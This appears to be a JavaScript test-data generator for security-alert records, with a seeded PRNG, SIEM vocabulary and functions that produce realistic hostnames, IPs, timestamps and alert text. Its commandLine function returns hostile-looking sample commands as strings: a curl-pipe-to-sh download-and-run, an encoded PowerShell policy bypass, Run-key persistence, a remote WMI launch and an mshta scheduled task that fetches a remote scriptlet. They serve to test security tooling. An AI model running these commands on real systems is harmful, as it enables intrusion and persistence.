// Generator part 1: the PRNG, the vocabulary and realistic strings (hostnames, UPNs, addresses, hashes, command
// lines, timestamps). Used by gen-records.mjs and generate.mjs.

// ---------------------------------------------------------------------------------------------------------------
// PRNG

/** mulberry32: a small, fast 32-bit PRNG; good enough for test data, and identical on every platform. */
export function mulberry32(seed) {
  let a = seed >>> 0;
  return function next() {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

export class Rng {
  constructor(seed) {
    this.next = mulberry32(seed);
  }
  /** Integer in [0, n). */
  int(n) {
    return Math.floor(this.next() * n);
  }
  /** Integer in [lo, hi]. */
  range(lo, hi) {
    return lo + this.int(hi - lo + 1);
  }
  chance(p) {
    return this.next() < p;
  }
  pick(list) {
    return list[this.int(list.length)];
  }
  hex(n, upper = false) {
    let s = "";
    for (let i = 0; i < n; i++) s += "0123456789abcdef"[this.int(16)];
    return upper ? s.toUpperCase() : s;
  }
  guid() {
    return `${this.hex(8)}-${this.hex(4)}-4${this.hex(3)}-${"89ab"[this.int(4)]}${this.hex(3)}-${this.hex(12)}`;
  }
  /** Absent or null, as a .NET server may send either (mostly null: the default serializer writes nulls). */
  missing() {
    return this.chance(0.75) ? null : undefined;
  }
  /** `value` or, with probability p, absent/null. */
  maybe(p, value) {
    return this.chance(p) ? this.missing() : value;
  }
}

// ---------------------------------------------------------------------------------------------------------------
// Vocabulary

export const SOURCES = ["Sentinel", "DefenderXDR", "QRadar", "Splunk", "CrowdStrike", "SentinelOne"];
export const SOURCE_NAMES = {
  Sentinel: "Microsoft Sentinel",
  DefenderXDR: "Microsoft Defender XDR",
  QRadar: "IBM QRadar",
  Splunk: "Splunk Enterprise Security",
  CrowdStrike: "CrowdStrike Falcon",
  SentinelOne: "SentinelOne Singularity",
};
export const SEVERITIES = ["Informational", "Low", "Medium", "High"];
export const STATUSES = ["Active", "New", "Closed"];
export const CLASSIFICATIONS = ["TruePositive", "FalsePositive", "BenignPositive", "Undetermined", "Suspicious"];
export const CLASSIFICATION_REASONS = ["SuspiciousActivity", "Malware", "Phishing", "CompromisedUser", "NotMalicious"];
export const ENTITY_TYPES = [
  "User", "IP", "File", "Process", "Device", "Malware", "CloudApplication", "DomainName", "AzureResource",
  "FileHash", "RegistryKey", "RegistryValue", "SecurityGroup", "URL", "IoTDevice", "Mailbox", "MailCluster",
  "MailMessage", "Submission", "SentinelEntities", "DnsResolution", "Registry", "OAuthApplication",
  "AmazonResource", "BlobContainer", "Blob", "Container", "ContainerRegistry", "ContainerImage",
  "GoogleCloudResource", "KubernetesCluster", "KubernetesController", "KubernetesNamespace", "KubernetesPod",
  "KubernetesService", "KubernetesSecret", "KubernetesServiceAccount", "AnalyzedMessage", "DNS", "Unknown",
  // Values the server may add later: a client keeps them verbatim.
  "ProcessTree", "EntraIdentity",
];
export const PLAYBOOK_ENTITY_TYPES = { User: "User", Device: "Endpoint", IP: "Network", Mailbox: "Email", MailMessage: "Email" };
export const GAMEBOOK_STATUSES = ["Pending", "Running", "Finished", "Failed", "Queued", "Denied", "Cancelled"];
export const PLAYBOOK_STATUSES = ["Pending", "Running", "Finished", "Failed", "Terminated", "Skipped"];
export const TACTICS = [
  "InitialAccess", "Execution", "Persistence", "PrivilegeEscalation", "DefenseEvasion", "CredentialAccess",
  "Discovery", "LateralMovement", "Collection", "CommandAndControl", "Exfiltration", "Impact",
];
export const PRODUCTS = [
  "Microsoft Defender for Endpoint", "Microsoft Defender for Office 365", "Microsoft Entra ID Protection",
  "Microsoft Defender for Cloud Apps", "Microsoft Defender for Identity", "Azure Sentinel",
];
export const FIRST = ["Jörg", "Zoë", "José", "Søren", "Łukasz", "Ana", "Ming", "Aisha", "Noah", "Chloé", "Björn", "Yuki",
  "François", "Dmitrij", "Siobhán", "Priya", "Emily", "Oğuz", "Mateo", "Hana"];
export const LAST = ["Müller", "Ågren", "Núñez", "Kierkegård", "Żółć", "Petrović", "Zhang", "Al-Farsi", "Smith", "Lefèvre",
  "Ødegaard", "Tanaka", "García", "O'Brien", "Nguyễn", "Schäfer", "Kowalski", "Yılmaz", "Haddad", "Jensen"];
export const ASCII = { "ö": "o", "ë": "e", "é": "e", "ø": "o", "Ł": "L", "ł": "l", "ż": "z", "ó": "o", "ć": "c", "Å": "A",
  "å": "a", "ú": "u", "ñ": "n", "è": "e", "Ø": "O", "á": "a", "ğ": "g", "ı": "i", "ễ": "e", "ä": "a", "Ż": "Z",
  "'": "" };
export const DOMAINS = ["contoso.com", "fabrikam.onmicrosoft.com", "northwindtraders.com", "woodgrove.ms", "tailspintoys.co.jp"];
export const HOST_PREFIXES = ["WKS-FIN", "WKS-HR", "LAPTOP", "SRV-SQL", "SRV-DC", "VDI-ENG", "MAC-DSGN", "LNX-K8S"];
export const JP = ["請求書", "調査中", "経理部", "報告書"];

// ---------------------------------------------------------------------------------------------------------------
// Realistic strings

export const BASE_MS = Date.UTC(2026, 3, 15, 20, 0, 0); // a fixed clock: 2026-04-15T20:00:00Z

export function pad(n, w = 2) {
  return String(n).padStart(w, "0");
}

export function isoParts(ms) {
  const d = new Date(ms);
  return `${d.getUTCFullYear()}-${pad(d.getUTCMonth() + 1)}-${pad(d.getUTCDate())}T${pad(d.getUTCHours())}:` +
    `${pad(d.getUTCMinutes())}:${pad(d.getUTCSeconds())}`;
}

/** A timestamp as the API sends them: with and without offset, 0, 3 or 7 fractional digits. */
export function timestamp(rng, ms) {
  const frac7 = pad(rng.int(10_000_000), 7);
  switch (rng.int(6)) {
    case 0: return `${isoParts(ms)}.${frac7}+00:00`;
    case 1: return `${isoParts(ms)}.${frac7}Z`;
    case 2: return `${isoParts(ms - 4 * 3600_000)}.${frac7}`; // the user's local time, no offset
    case 3: return `${isoParts(ms)}.${frac7.slice(0, 3)}Z`;
    case 4: return `${isoParts(ms)}Z`;
    default: return `${isoParts(ms + 2 * 3600_000)}.${frac7}+02:00`;
  }
}

export function msBefore(rng, maxHours = 72) {
  return BASE_MS - rng.int(maxHours * 3600) * 1000 - rng.int(1000);
}

export function person(rng) {
  const first = rng.pick(FIRST);
  const last = rng.pick(LAST);
  const ascii = (s) => [...s].map((c) => ASCII[c] ?? c).join("").toLowerCase();
  const domain = rng.pick(DOMAINS);
  const upn = `${ascii(first)}.${ascii(last)}${rng.chance(0.2) ? rng.int(100) : ""}@${domain}`;
  return { name: `${first} ${last}`, upn, domain };
}

export function hostname(rng) {
  const prefix = rng.pick(HOST_PREFIXES);
  const name = prefix === "LAPTOP" ? `LAPTOP-${rng.hex(8, true)}` : `${prefix}-${pad(rng.int(1000), 4)}`;
  return rng.chance(0.5) ? `${name}.corp.${rng.pick(DOMAINS)}` : name;
}

export function ipv4(rng) {
  switch (rng.int(4)) {
    case 0: return `10.${rng.int(256)}.${rng.int(256)}.${rng.range(1, 254)}`;
    case 1: return `192.168.${rng.int(256)}.${rng.range(1, 254)}`;
    case 2: return `${rng.pick(["203.0.113", "198.51.100", "192.0.2"])}.${rng.range(1, 254)}`;
    default: return `${rng.range(11, 223)}.${rng.int(256)}.${rng.int(256)}.${rng.range(1, 254)}`;
  }
}

export function ipv6(rng) {
  const g = () => rng.int(0x10000).toString(16);
  switch (rng.int(3)) {
    case 0: return `2001:db8:${g()}:${g()}::${g()}:${g()}`;
    case 1: return `fe80::${g()}:${g()}:${g()}:${g()}%${rng.range(2, 24)}`;
    default: return `2a01:${g()}:${g()}:${g()}:${g()}:${g()}:${g()}:${g()}`;
  }
}

export function ip(rng) {
  return rng.chance(0.7) ? ipv4(rng) : ipv6(rng);
}

export function sha256(rng) {
  return rng.hex(64, rng.chance(0.2));
}

export function windowsUserDir(rng) {
  const p = person(rng);
  return rng.chance(0.2) ? `C:\\Users\\田中` : `C:\\Users\\${p.name.split(" ")[0].toLowerCase()}`;
}

export function commandLine(rng) {
  const dir = windowsUserDir(rng);
  switch (rng.int(8)) {
    case 0:
      return `"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -NoProfile -ExecutionPolicy Bypass ` +
        `-EncodedCommand ${rng.hex(24)}SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0AC${rng.hex(16)}==`;
    case 1:
      return `cmd.exe /c "echo Überprüfung abgeschlossen > "${dir}\\AppData\\Local\\Temp\\${rng.hex(6)}.txt""`;
    case 2:
      return `rundll32.exe "C:\\ProgramData\\naïve-update\\${rng.hex(8)}.dll",DllRegisterServer`;
    case 3:
      return `/bin/bash -c 'curl -fsSL http://${ipv4(rng)}/${rng.hex(6)}.sh | sh -s -- --quiet'`;
    case 4:
      return `"C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE" "${dir}\\Documents\\${rng.pick(JP)}_2026.xlsm"`;
    case 5:
      return `wmic.exe /node:"${hostname(rng)}" process call create "C:\\Windows\\Temp\\svc${rng.int(100)}.exe -k netsvcs"`;
    case 6:
      return `reg.exe add "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run" /v "Mise à jour" /t REG_SZ ` +
        `/d "${dir}\\AppData\\Roaming\\upd.exe" /f`;
    default:
      return `schtasks /create /tn "\\Microsoft\\Windows\\Защита\\Sync" /tr "mshta.exe vbscript:Close(Execute(""GetObject(""""script:https://cdn-${rng.hex(6)}.example/s.sct"""")""))" /sc minute /mo 15`;
  }
}

export function sentence(rng) {
  return rng.pick([
    "Suspicious PowerShell execution observed after a phishing e-mail was opened.",
    "Anmeldung von einem ungewöhnlichen Standort (São Paulo, Brasil) — MFA wurde umgangen.",
    "Credential dumping attempt against lsass.exe detected; process tree attached.",
    "疑わしいマクロが「請求書.xlsm」から実行されました。",
    "Connexion réussie depuis une adresse IP anonyme (réseau Tor) ; session révoquée.",
    "Ransomware behavior: 1 432 files renamed with extension \".locked\" in under 90 s.",
    "Mass download by a single user — 12 GB from SharePoint site \"Finanzplanung 2026\".",
    "Alert <suppressed> & re-opened by analyst; see 'notes' for context + timeline.",
    "Зафиксирована попытка бокового перемещения через WMI.",
    "🔒 Device isolated by automated response; awaiting analyst review ✔",
  ]);
}
